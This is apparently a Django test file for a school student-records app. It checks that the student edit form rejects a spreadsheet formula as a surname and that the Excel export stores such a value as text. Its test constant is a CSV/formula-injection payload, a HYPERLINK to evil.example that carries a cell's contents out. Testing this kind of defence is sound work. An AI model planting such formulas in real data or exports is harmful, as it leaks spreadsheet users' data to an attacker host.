"""«=HYPERLINK(…)» as a name: refused by the student form, and never a live formula in the export."""

from __future__ import annotations

import io

from django.forms.models import model_to_dict
from openpyxl import load_workbook

from itog.people.models import Student

EVIL = '=HYPERLINK("http://evil.example/?d="&G2,"Иванов")'


def edit_payload(student: Student, **changes) -> dict:
    from itog.web.forms import StudentForm

    data = {k: v for k, v in model_to_dict(student, fields=StudentForm._meta.fields).items() if v is not None}
    data["birth_date"] = student.birth_date.isoformat()
    data.update(changes)
    return data


def test_student_form_refuses_a_formula_as_name(login, region):
    student = Student.objects.filter(school=region.school1).first()
    client = login("school")
    response = client.post(f"/students/{student.pk}/edit/", edit_payload(student, last_name=EVIL))
    assert response.status_code == 200
    assert "Допустимы только буквы" in response.content.decode()
    student.refresh_from_db()
    assert student.last_name != EVIL
    ok = client.post(f"/students/{student.pk}/edit/", edit_payload(student, last_name="Салтыков-Щедрин"))
    assert ok.status_code == 302
    student.refresh_from_db()
    assert student.last_name == "Салтыков-Щедрин"


def test_student_export_writes_a_stored_formula_as_text(login, region):
    """A name that reached the database another way (an old import) is still exported as text."""
    student = Student.objects.filter(school=region.school1).order_by("last_name").first()
    Student.objects.filter(pk=student.pk).update(last_name=EVIL)
    response = login("school").get("/students/export.xlsx")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert cells, "the row is in the export"
    assert all(c.data_type == "s" for c in cells)
